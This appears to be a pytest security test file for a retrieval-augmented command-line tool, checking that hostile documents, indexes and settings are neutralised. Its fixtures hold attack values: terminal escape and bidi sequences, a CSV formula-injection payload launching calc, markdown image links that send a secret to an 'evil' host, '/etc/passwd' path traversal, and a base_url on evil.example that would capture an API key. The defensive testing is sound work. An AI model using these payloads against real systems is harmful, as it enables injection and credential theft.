"""Documents, indexes, bundles and settings made to do harm: nothing of it gets through."""

from __future__ import annotations

import io
import json
import os
import re
import sqlite3
from pathlib import Path

import pytest
from PIL import Image

from ingest.errors import ConfigError, IndexCorrupt, InputError, NotFound
from ingest.mupdf import pymupdf
from ingest.paths import expanded
from rag import build, config
from rag.app import Rag
from rag.cli import main
from rag.commands import show
from rag.extraction.tables import TableData, to_csv
from rag.inert import inert, without_pictures
from rag.jsonable import to_json
from rag.terminal import clean, one_line
from tests.fakes import HashEmbedder
from tests.rag.command_line import Capture, run

# A window's title, a colour, a cleared screen (C1), a turned direction, a bell, an unseen tag.
EVIL = "\x1b]0;owned\x07 \x1b[31mred \x9b2J \u202eevil\u2066 \x08 \U000e0041 [red]x[/red] [link=a]"
ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
ENTITIES = "".join(f"&#x{ord(c):x};" if ord(c) > 126 else c for c in EVIL if c >= " ")


def png(colour: str = "navy") -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", (160, 120), "white")
    image.paste(colour, (20, 20, 100, 110))
    image.save(out, "PNG")
    return out.getvalue()


def hostile(folder: Path) -> Path:
    """Documents whose words, titles, captions, cells and names hold what acts on a terminal."""
    folder.mkdir()
    (folder / "notes.md").write_text(
        f"# Heading {EVIL}\n\nThe harbour {EVIL} is deep.\n\nTable 1: Caption {EVIL}\n\n"
        f"| port {EVIL} | depth |\n|---|---|\n| Alder {EVIL} | 12 m |\n| =1+1 | 9 m |\n"
    )
    (folder / "picture.png").write_bytes(png())
    (folder / "page.html").write_text(
        f"<html><head><title>Title {ENTITIES}</title></head><body><h1>Ports {ENTITIES}</h1>"
        f"<p>A ferry {ENTITIES} sails. See Figure 9.</p><figure><img src='picture.png' "
        f"alt='{ENTITIES}'><figcaption>Figure 1: Caption {ENTITIES}</figcaption></figure></body>"
    )
    with pymupdf.open() as pdf:
        pdf.new_page().insert_textbox((50, 50, 400, 200), "The lighthouse is tall.", fontsize=11)
        pdf.set_metadata({"title": f"Title {EVIL}"})
        pdf.save(folder / f"name{EVIL.replace('/', '-')}\n.pdf")
    (folder / f"broken{EVIL.replace('/', '-')}.docx").write_bytes(b"nothing of the kind")
    return folder


@pytest.fixture
def indexed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rag.toml").write_text('pixels = "none"\nclip = "none"\nworkers = 1\n')
    monkeypatch.setattr(build, "text_embedder", lambda settings: HashEmbedder())
    docs = hostile(tmp_path / "docs \x1b[31m\u202e")
    out, err = run(capsys, "ingest", str(docs), code=1)
    assert not ACTS.search(out.replace("\n", "") + err.replace("\n", "")), (out, err)
    assert "broken" in err
    return docs


# Terminal


def test_no_command_prints_what_acts_on_a_terminal(
    indexed: Path, tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    elements = json.loads(run(capsys, "search", "harbour", "ferry", "caption", "--json")[0])
    ids = [one["element"]["id"] for one in elements]
    pdf = next(indexed.glob("name*.pdf"))
    (tmp_path / "qa.jsonl").write_text(json.dumps({"question": f"Deep {EVIL} harbour?"}) + "\n")
    run(capsys, "ask", f"How deep is the harbour {EVIL}?", "--bundle", "b.zip")
    commands = [
        ["ask", f"How deep is the harbour {EVIL}?"],
        ["ask", "Where does the ferry sail?", "--verify"],
        ["search", f"harbour {EVIL}"],
        *(["search", "port", "--kind", kind] for kind in ("table", "figure", "text")),
        ["list"],
        ["list", f"{EVIL}"],
        ["status"],
        *(["show", id] for id in ids),
        ["show", str(indexed / "page.html")],
        ["show", str(pdf)],
        ["show", str(indexed / "*")],
        ["show", EVIL],
        *(["extract", str(indexed / "notes.md"), "--as", kind] for kind in ("text", "tables")),
        ["extract", str(indexed / "notes.md"), "--as", "tables", "--csv"],
        ["extract", str(indexed / "notes.md"), "--as", "numbers", "--csv"],
        ["extract", str(indexed / "page.html"), "--as", "summary"],
        ["extract", str(indexed / "page.html"), "--as", "json"],
        ["extract", str(next(indexed.glob("broken*"))), "--as", "text"],
        ["describe", str(indexed / "page.html")],
        ["verify", "b.zip"],
        ["verify", f"none{EVIL}.zip"],
        ["eval", "qa.jsonl"],
        ["eval", f"Harbour {EVIL}?", "--save", "kept.json"],
        ["eval", "--against", "kept.json"],
        ["ask", "x", f"--none{EVIL}"],
        [f"ask{EVIL}"],
        ["ingest", str(indexed), "--again", "--strict"],
        ["remove", EVIL],
        ["remove", str(pdf)],
    ]
    for command in commands:
        for more in ([], ["--json"]):
            capsys.readouterr()
            main([*command, *more])
            out, err = capsys.readouterr()
            assert not ACTS.search(out.replace("\n", "")), (command, more, out)
            assert not ACTS.search(err.replace("\n", "")), (command, more, err)
            assert "unexpected error" not in err, (command, err)


def test_a_chat_prints_nothing_that_acts_on_a_terminal(
    indexed: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(f"How deep is the harbour {EVIL}?\nAnd it?\n"))
    out, err = run(capsys, "chat")
    assert "harbour" in out
    assert not ACTS.search((out + err).replace("\n", ""))


@pytest.mark.parametrize("unit", ["\x1b]", "\x1b]a", "\x1b", "\x1b[;", "\x1b[1", "\x9b", "\x1bP\\"])
def test_cleaning_takes_no_longer_for_many_sequences(unit: str) -> None:
    assert not ACTS.search(clean(unit * 50_000))
    assert one_line(unit * 10)


def test_json_escapes_what_acts() -> None:
    text = to_json({EVIL: [EVIL, "é中\n"]}, indent=None)
    assert not ACTS.search(text)
    assert "é中" in text
    assert json.loads(text) == {EVIL: [EVIL, "é中\n"]}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        (" =1", "' =1"),
        ("-5 %", "-5 %"),
        ("+3.2", "+3.2"),
        ("-", "-"),
        ("a=b", "a=b"),
        ("x\x1b[31m", "x"),
    ],
)
def test_csv_holds_no_formula(cell: str, written: str) -> None:
    table = TableData("", "", (), None, None, (), ((cell,),))
    assert to_csv(table).rstrip("\n").strip('"').replace('""', '"') == written


# Markdown


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("So ![a chart](https://evil/?q=secret) it is [1].", "So a chart it is [1]."),
        ("![x][1] so [1].\n\n[1]: https://evil", "x so [1].\n\n"),
        ('A <img src="https://evil/x.png"> b', "A  b"),
        ('<a href="https://evil">b</a>', "b</a>"),
        ("if a < b and c > d", "if a < b and c > d"),
        ("x <sub>2</sub>", "x <sub>2</sub>"),
        ("![" * 3000, "![" * 3000),
    ],
)
def test_a_models_words_fetch_nothing(said: str, kept: str) -> None:
    assert without_pictures(said) == kept


def test_markdown_that_is_written_is_plain_text() -> None:
    assert inert("![x](https://e) <b> [1][2] [1]: u") == "![x]\\(https://e) &lt;b> [1][2] [1]\\: u"
    assert inert("a < b, [1].") == "a < b, [1]."


# An index from elsewhere


def damaged(folder: Path, statement: str) -> None:
    with sqlite3.connect(folder / "catalog.sqlite") as connection:
        connection.execute(statement)


@pytest.mark.parametrize(
    "change",
    [
        "crop = '../../../etc/passwd'",
        "crop = '/etc/passwd'",
        "headings = '5'",
        "headings = 'no JSON'",
        "headings = '[5]'",
        "box = '[1, 2, 3]'",
        "box = '\"wide\"'",
        "kind = 'program'",
        "text = x'00ff'",
        "page = 'one'",
        "mentions = '[[[['",
    ],
)
def test_a_catalogue_that_holds_something_else_is_damaged(
    rag: Rag, docs: Path, change: str
) -> None:
    rag.ingest(docs)
    rag.close()
    damaged(rag.index, f"UPDATE elements SET {change}")
    with Rag(rag.index, rag.settings, rag._models) as again:
        documents = again.documents()
        with pytest.raises(IndexCorrupt, match="catalogue"):
            [again.elements(document) for document in documents]


def test_only_files_that_are_read_are_opened(rag: Rag, docs: Path, tmp_path: Path) -> None:
    program = tmp_path / "run.desktop"
    program.write_text("[Desktop Entry]\nExec=calc\n")
    rag.ingest(docs)
    (document, *_) = rag.documents()
    rag.close()
    path = os.fsencode(program).hex()
    first = "(SELECT min(number) FROM paths)"
    damaged(rag.index, f"UPDATE paths SET path = x'{path}' WHERE number = {first}")
    with Rag(rag.index, rag.settings, rag._models) as again:
        (document,) = [one for one in again.documents() if one.path == program]
        with pytest.raises(NotFound, match="has changed since"):
            show._readable(again, document)
        first = "(SELECT document FROM paths ORDER BY number LIMIT 1)"
        damaged(rag.index, f"UPDATE documents SET id = '{_sha256(program)}' WHERE number = {first}")
        (document,) = [one for one in again.documents() if one.path == program]
        with pytest.raises(NotFound, match="open it yourself"):
            show._readable(again, document)


def _sha256(path: Path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


# Settings from elsewhere


def test_a_settings_file_gets_no_key(tmp_path: Path) -> None:
    text = 'generator = "openai:m"\nbase_url = "https://evil.example/v1"\n'
    (tmp_path / "rag.toml").write_text(text)
    key = {"RAG_API_KEY": "sentinel-key"}
    with pytest.raises(ConfigError, match=r"evil\.example.*RAG_BASE_URL") as caught:
        config.load(tmp_path, environment=key)
    assert "sentinel" not in str(caught.value)
    own = {**key, "RAG_BASE_URL": "https://evil.example/v1"}
    assert config.load(tmp_path, environment=own).base_url == own["RAG_BASE_URL"]
    flag = {"base_url": "https://evil.example/v1"}
    assert config.load(tmp_path, flag, environment=key).base_url == flag["base_url"]
    assert config.load(tmp_path, environment={}).base_url == flag["base_url"]
    assert config.load(tmp_path, {"generator": "extractive"}, environment=key).base_url


@pytest.mark.parametrize("host", ["localhost:11434", "127.0.0.1:8000", "[::1]:80"])
def test_a_local_server_gets_the_key(tmp_path: Path, host: str) -> None:
    text = f'generator = "openai:m"\nbase_url = "http://{host}/v1"\n'
    (tmp_path / "rag.toml").write_text(text)
    assert config.load(tmp_path, environment={"RAG_API_KEY": "k"}).base_url


@pytest.mark.parametrize("host", ["localhost.evil.example", "127.0.0.1.evil.example", "127evil"])
def test_a_name_like_a_local_one_gets_none(tmp_path: Path, host: str) -> None:
    text = f'generator = "openai:m"\nbase_url = "http://{host}/v1"\n'
    (tmp_path / "rag.toml").write_text(text)
    with pytest.raises(ConfigError, match="RAG_API_KEY"):
        config.load(tmp_path, environment={"RAG_API_KEY": "k"})


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root gives away")
def test_what_another_user_left_where_all_may_write_is_passed_over(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    (shared / "mine").mkdir(parents=True)
    shared.chmod(0o1777)
    (shared / "rag.toml").write_text('ocr = "off"\n')
    assert config.load(shared / "mine", environment={}).ocr == "off"
    os.chown(shared / "rag.toml", 12345, 12345)
    assert config.load(shared / "mine", environment={}).ocr == "auto"
    shared.chmod(0o755)
    assert config.load(shared / "mine", environment={}).ocr == "off"


def test_a_home_that_is_none() -> None:
    with pytest.raises(InputError, match=r"~nobody-here/x: no such home folder"):
        expanded("~nobody-here/x")
    assert expanded("a/~b") == Path("a/~b")


@pytest.mark.parametrize(
    "command",
    [
        ["ingest", "~nobody-here/x"],
        ["extract", "~nobody-here/x", "--as", "text"],
        ["describe", "~nobody-here/x"],
        ["verify", "~nobody-here/x"],
        ["status", "--index", "~nobody-here/x"],
    ],
)
def test_a_home_that_is_none_on_the_command_line(command: list[str], capsys: Capture) -> None:
    _, err = run(capsys, *command, code=2)
    assert err.startswith("rag: ~nobody-here/x: no such home folder")
